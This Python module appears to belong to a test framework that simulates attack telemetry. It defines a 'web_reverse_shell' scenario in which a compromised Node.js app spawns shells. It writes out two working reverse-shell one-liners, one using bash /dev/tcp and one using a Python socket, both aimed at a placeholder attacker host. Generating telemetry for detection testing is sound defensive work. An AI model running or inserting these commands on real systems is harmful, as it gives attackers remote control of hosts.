"""The web_reverse_shell campaign (moved unchanged from the old single module; to be converted)."""

from __future__ import annotations

from pytest_ctirealm.telemetry.context import SimContext
from pytest_ctirealm.telemetry.environment import linux_host
from pytest_ctirealm.telemetry.scenarios.base import Stages, Timeline, incident_start, scenario
from pytest_ctirealm.telemetry.scenarios.linux.common import BASH, REVERSE, webshell


@scenario("web_reverse_shell", "linux", ("reverse_shell",))
def web_reverse_shell(ctx: SimContext) -> Stages:
    """Remote code execution in the Node.js app opens interactive shells back to the
    attacker, first with bash's /dev/tcp, then with Python."""
    t = Timeline(ctx, "web_reverse_shell", linux_host("vm-web02"), incident_start(ctx, "revshell"))
    node = t.daemon("node")
    wrapper = webshell(t, "reverse_shell", node, f"bash -i >& /dev/tcp/{REVERSE}/4444 0>&1")
    t.run("reverse_shell", wrapper, BASH, "bash -i")
    python = (
        "python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
        f's.connect(("{REVERSE}",4445));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);'
        'os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])'
    )
    t.run("reverse_shell", node, "/usr/bin/python3.10", python, after=(120, 600))
    return t.stages
